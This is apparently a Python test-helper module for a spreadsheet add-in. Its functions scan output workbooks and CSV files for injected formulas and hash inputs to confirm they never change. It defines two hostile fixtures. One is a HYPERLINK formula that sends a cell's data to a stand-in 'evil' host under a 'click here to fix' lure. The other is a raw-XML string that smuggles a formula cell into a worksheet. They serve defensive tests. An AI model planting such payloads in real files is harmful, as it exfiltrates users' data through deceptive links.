"""Helpers for the hostile-input tests and the fuzzer: write inputs, scan every output."""

from __future__ import annotations

import csv
import hashlib
import re
import zipfile
from collections.abc import Sequence
from pathlib import Path

import openpyxl

from addin.cellsafe import FORMULA_START

#: A formula element in a worksheet part (<f>, <f t="shared" …>); chart parts use <c:f>.
_FORMULA = re.compile(rb"<f[\s>/]")

EVIL = '=HYPERLINK("http://evil/?d="&H2,"点此修复")'
#: Text that xlsxwriter's constant_memory mode would pass through as raw XML (rich text).
RICH = '<r><t>x</t></r></is></c><c r="Z9"><f>HYPERLINK("http://evil")</f></c><c><is><r></r>'


def write_strings(path: Path, sheet: str, rows: Sequence[Sequence[object]]) -> Path:
    """A workbook of typed values: text stays text (no formula in the input), any length."""
    path.parent.mkdir(parents=True, exist_ok=True)
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = sheet
    for r, row in enumerate(rows, start=1):
        for c, v in enumerate(row, start=1):
            if v is not None:
                cell = ws.cell(row=r, column=c, value=v)
                if isinstance(v, str):
                    cell.data_type = "s"
    wb.save(path)
    return path


def formula_cells(path: Path) -> list[str]:
    """'part: snippet' for every formula element in the worksheets of an .xlsx/.xlsm."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                data = zf.read(name)
                for m in _FORMULA.finditer(data):
                    found.append(f"{name}: {data[m.start() : m.start() + 60]!r}")
    return found


def outputs_with_formulas(folder: Path) -> list[str]:
    """Every formula in every workbook under ``folder`` (none may be there)."""
    return [
        f"{p}: {hit}"
        for p in sorted(folder.rglob("*.xls[xm]"))
        if ".intake-backup" not in p.parts
        for hit in formula_cells(p)
    ]


def csv_injections(folder: Path) -> list[str]:
    """CSV cells under ``folder`` that a spreadsheet would read as a formula."""
    bad = []
    for p in sorted(folder.rglob("*.csv")):
        with open(p, encoding="utf-8-sig", newline="") as fh:
            for r, row in enumerate(csv.reader(fh), start=1):
                bad += [f"{p}:{r}: {v[:30]}" for v in row if v.startswith(FORMULA_START)]
    return bad


def digests(folder: Path) -> dict[str, str]:
    """sha256 of every file under ``folder`` (inputs must never change)."""
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }
